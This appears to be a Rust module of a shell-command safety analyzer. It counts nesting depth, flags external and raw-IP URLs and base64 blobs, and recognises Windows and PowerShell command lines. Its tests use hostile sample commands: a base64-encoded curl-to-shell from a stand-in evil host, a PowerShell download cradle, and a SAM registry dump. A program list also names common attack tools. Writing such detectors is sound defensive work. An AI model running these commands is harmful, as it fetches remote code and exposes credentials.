//! Cheap linear scans done before or beside parsing: nesting depth (the parser backtracks
//! exponentially on deep unbalanced input, so depth is bounded first), URL and literal facts,
//! and whether a text is a PowerShell / Windows command line.

use super::part::{Fact, Facts};

/// Deepest syntactic nesting handed to the shell parser; deeper text is refused unparsed.
pub(crate) const MAX_SYNTAX_DEPTH: usize = 8;

/// The deepest nesting of `(`, `{`, `$(`, backticks and `if`/`case`/`while`/`until`/`for`/
/// `select` in command position. Quotes are honoured; the count stops early once it passes
/// `limit`.
pub(crate) fn syntax_depth(text: &str, limit: usize) -> usize {
    let bytes = text.as_bytes();
    // Open constructs: `(`, `{`, `` ` `` or `k` for a keyword block. A `)` closes only a `(`,
    // so case patterns (`x)`) do not hide the depth of the `case` around them.
    let mut stack: Vec<u8> = Vec::new();
    let mut max = 0;
    let mut i = 0;
    let mut single = false;
    let mut double = false;
    let mut command_position = true;
    while i < bytes.len() {
        let b = bytes[i];
        if single {
            single = b != b'\'';
            i += 1;
            continue;
        }
        match b {
            b'\\' => {
                i += 2;
                command_position = false;
                continue;
            }
            b'\'' if !double => single = true,
            b'"' => double = !double,
            b'`' => {
                if stack.last() == Some(&b'`') {
                    stack.pop();
                } else {
                    stack.push(b'`');
                }
            }
            b'(' | b'{' if !double || (i > 0 && bytes[i - 1] == b'$') => {
                stack.push(b);
                command_position = true;
            }
            b')' => {
                if stack.last() == Some(&b'(') {
                    stack.pop();
                }
                // After `)` (a subshell or a case pattern) a command may follow.
                command_position = true;
            }
            b'}' if stack.last() == Some(&b'{') => {
                stack.pop();
            }
            b';' | b'|' | b'&' | b'\n' if !double => command_position = true,
            b'#' if !double && (i == 0 || bytes[i - 1].is_ascii_whitespace()) => {
                while i < bytes.len() && bytes[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            c if c.is_ascii_whitespace() => {}
            _ if !double && command_position => {
                let end = bytes[i..]
                    .iter()
                    .position(|c| !c.is_ascii_alphanumeric())
                    .map_or(bytes.len(), |n| i + n);
                let word = text.get(i..end).unwrap_or("");
                match word {
                    "if" | "case" | "while" | "until" | "for" | "select" => stack.push(b'k'),
                    "fi" | "esac" | "done" if stack.last() == Some(&b'k') => {
                        stack.pop();
                    }
                    _ => {}
                }
                // Keywords keep the next word in command position (`then rm`, `do rm`).
                command_position = matches!(
                    word,
                    "then" | "do" | "else" | "elif" | "if" | "while" | "until" | "!" | "time"
                );
                i = end.max(i + 1);
                max = max.max(stack.len());
                if max > limit {
                    return max;
                }
                continue;
            }
            _ => command_position = false,
        }
        max = max.max(stack.len());
        if max > limit {
            return max;
        }
        i += 1;
    }
    max
}

/// Whether `host` is this machine (loopback names and addresses).
fn local_host(host: &str) -> bool {
    let h = host
        .trim_start_matches('[')
        .trim_end_matches(']')
        .to_ascii_lowercase();
    h == "localhost"
        || h.ends_with(".localhost")
        || h.starts_with("127.")
        || h == "::1"
        || h == "0.0.0.0"
        || h.is_empty()
}

/// URL facts: some URL points off this machine; some URL's host is a literal IP.
pub(crate) fn url_facts(text: &str, facts: &mut Facts) {
    let mut rest = text;
    while let Some(i) = rest.find("://") {
        let scheme_ok = rest[..i]
            .bytes()
            .next_back()
            .is_some_and(|b| b.is_ascii_alphabetic());
        let after = &rest[i + 3..];
        rest = after;
        if !scheme_ok {
            continue;
        }
        let authority = after
            .split(|c: char| {
                c == '/' || c == '?' || c == '#' || c.is_whitespace() || "'\"`)|;".contains(c)
            })
            .next()
            .unwrap_or("");
        let host_port = authority.rsplit('@').next().unwrap_or("");
        let host = if host_port.starts_with('[') {
            host_port.split(']').next().unwrap_or("")
        } else {
            host_port.split(':').next().unwrap_or("")
        };
        if local_host(host) {
            continue;
        }
        facts.add(Fact::ExternalUrl);
        if host.parse::<std::net::IpAddr>().is_ok()
            || host
                .trim_start_matches('[')
                .parse::<std::net::Ipv6Addr>()
                .is_ok()
        {
            facts.add(Fact::RawIpUrl);
        }
    }
}

/// A run of at least 40 base64 characters with upper, lower and digits, or ending in `=`:
/// hex digests (all one case) do not count.
pub(crate) fn long_base64(text: &str) -> bool {
    let mut run = 0usize;
    let (mut upper, mut lower, mut digit) = (false, false, false);
    for b in text.bytes().chain(std::iter::once(b' ')) {
        if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=' {
            run += 1;
            upper |= b.is_ascii_uppercase();
            lower |= b.is_ascii_lowercase();
            digit |= b.is_ascii_digit();
        } else {
            if run >= 40 && upper && lower && digit {
                return true;
            }
            run = 0;
            (upper, lower, digit) = (false, false, false);
        }
    }
    false
}

/// Facts of any text: URLs and long base64 literals.
pub(crate) fn text_facts(text: &str) -> Facts {
    let mut facts = Facts::default();
    if text.contains("://") {
        url_facts(text, &mut facts);
    }
    if text.len() >= 40 && long_base64(text) {
        facts.add(Fact::LongBase64);
    }
    facts
}

/// Programs that only exist on Windows; a command line starting with one is read as
/// PowerShell / cmd, where `\` is a path separator and not an escape.
pub(crate) const WINDOWS_PROGRAMS: &[&str] = &[
    "powershell",
    "pwsh",
    "cmd",
    "certutil",
    "bitsadmin",
    "vssadmin",
    "wevtutil",
    "rundll32",
    "regsvr32",
    "mshta",
    "wmic",
    "reg",
    "schtasks",
    "procdump",
    "procdump64",
    "netsh",
    "bcdedit",
    "wbadmin",
    "auditpol",
    "esentutl",
    "ntdsutil",
    "diskpart",
    "taskkill",
    "cipher",
    "icacls",
    "takeown",
    "msiexec",
    "cscript",
    "wscript",
    "format",
    "del",
    "rd",
    "net",
    "sc",
    "fsutil",
    "comsvcs",
    "psexec",
    "psexec64",
    "sqldumper",
    "createdump",
    "mpcmdrun",
    "attrib",
    "erase",
    "robocopy",
    "xcopy",
    "tasklist",
    "findstr",
    "winrm",
    "wusa",
    "dism",
];

/// Whether `name` (already lowercased, no `.exe`) is a PowerShell cmdlet (`Verb-Noun`) or a
/// common PowerShell alias.
pub(crate) fn is_cmdlet(name: &str) -> bool {
    const VERBS: &[&str] = &[
        "get",
        "set",
        "new",
        "remove",
        "invoke",
        "start",
        "stop",
        "add",
        "clear",
        "out",
        "import",
        "register",
        "enable",
        "disable",
        "convertto",
        "convertfrom",
        "write",
        "test",
        "copy",
        "move",
        "select",
        "where",
        "foreach",
        "restart",
        "format",
        "export",
        "expand",
        "compress",
        "install",
        "uninstall",
        "unregister",
        "rename",
        "resolve",
        "send",
        "receive",
        "enter",
        "exit",
        "suspend",
        "resume",
        "wait",
        "update",
        "save",
        "mount",
        "dismount",
        "initialize",
    ];
    const ALIASES: &[&str] = &[
        "iex", "iwr", "irm", "saps", "icm", "gci", "gc", "sal", "ni", "ri", "spps", "gwmi", "gps",
        "sls", "ii",
    ];
    if ALIASES.contains(&name) {
        return true;
    }
    match name.split_once('-') {
        Some((verb, noun)) => {
            VERBS.contains(&verb)
                && !noun.is_empty()
                && noun.bytes().all(|b| b.is_ascii_alphanumeric())
        }
        None => false,
    }
}

/// The first word of a text, lowercased, path and `.exe` removed (`&`/`.` call operators and
/// quotes skipped).
pub(crate) fn first_program(text: &str) -> String {
    let t = text.trim_start().trim_start_matches(['&', '.', '(', ' ']);
    let t = t.trim_start_matches(['"', '\'']);
    let end = t
        .find(|c: char| c.is_whitespace() || "\"'();|".contains(c))
        .unwrap_or(t.len())
        .min(256);
    let word = t.get(..end).unwrap_or("");
    let base = word.rsplit(['/', '\\']).next().unwrap_or("");
    let cut = base.len().saturating_sub(4);
    let stem = match (base.get(cut..), base.get(..cut)) {
        (Some(ext), Some(stem)) if base.len() > 4 && ext.eq_ignore_ascii_case(".exe") => stem,
        _ => base,
    };
    stem.to_ascii_lowercase()
}

/// Whether `needle` (lowercase ASCII) occurs in `text`, ignoring ASCII case.
fn contains_ignore_case(text: &str, needle: &str) -> bool {
    let (bytes, n) = (text.as_bytes(), needle.as_bytes());
    let Some(&first) = n.first() else { return true };
    let upper = first.to_ascii_uppercase();
    (0..bytes.len().saturating_sub(n.len() - 1))
        .filter(|&i| bytes[i] == first || bytes[i] == upper)
        .any(|i| bytes[i..i + n.len()].eq_ignore_ascii_case(n))
}

/// Whether a text reads as a PowerShell / cmd command line rather than POSIX shell.
pub(crate) fn looks_windows(text: &str) -> bool {
    let bytes = text.as_bytes();
    let drive_path = bytes
        .windows(3)
        .any(|w| w[1] == b':' && w[2] == b'\\' && w[0].is_ascii_alphabetic());
    if drive_path || text.contains("$env:") || (text.contains("]::") && text.contains('[')) {
        return true;
    }
    let first = first_program(text);
    if WINDOWS_PROGRAMS.contains(&first.as_str()) || is_cmdlet(&first) {
        return true;
    }
    text.contains('-')
        && (contains_ignore_case(text, "new-object ") || contains_ignore_case(text, "[convert]"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn depth_counts_nesting_not_length() {
        assert_eq!(syntax_depth("ls; ls; ls", 20), 0);
        assert_eq!(syntax_depth("echo $(echo $(id))", 20), 2);
        assert_eq!(
            syntax_depth("if true; then case x in x) ls;; esac; fi", 20),
            2
        );
        assert_eq!(syntax_depth("echo 'if ((((('", 20), 0);
        assert!(syntax_depth(&"(".repeat(40), 8) > 8);
        assert!(syntax_depth(&"case x in x) ".repeat(20), 8) > 8);
    }

    #[test]
    fn urls_off_this_machine() {
        let f = text_facts("curl -fsS https://localhost/healthz http://127.0.0.1:8080/x");
        assert!(!f.has(Fact::ExternalUrl));
        let f = text_facts("curl http://10.1.2.3:8000/x.sh");
        assert!(f.has(Fact::ExternalUrl) && f.has(Fact::RawIpUrl));
        let f = text_facts("wget https://example.com/a");
        assert!(f.has(Fact::ExternalUrl) && !f.has(Fact::RawIpUrl));
    }

    #[test]
    fn base64_but_not_digests() {
        assert!(long_base64(
            "echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d"
        ));
        assert!(!long_base64(
            "sha256:9f64b19efc02f0dd6cac1d462e20a1098f425f09cb13624efbb1b7d63f061735"
        ));
    }

    #[test]
    fn windows_lines() {
        assert!(looks_windows(
            "IEX (New-Object Net.WebClient).DownloadString('http://x')"
        ));
        assert!(looks_windows(
            "C:\\Windows\\System32\\reg.exe save HKLM\\SAM sam"
        ));
        assert!(looks_windows("Get-Process | Stop-Process"));
        assert!(!looks_windows("systemctl restart nginx"));
    }
}
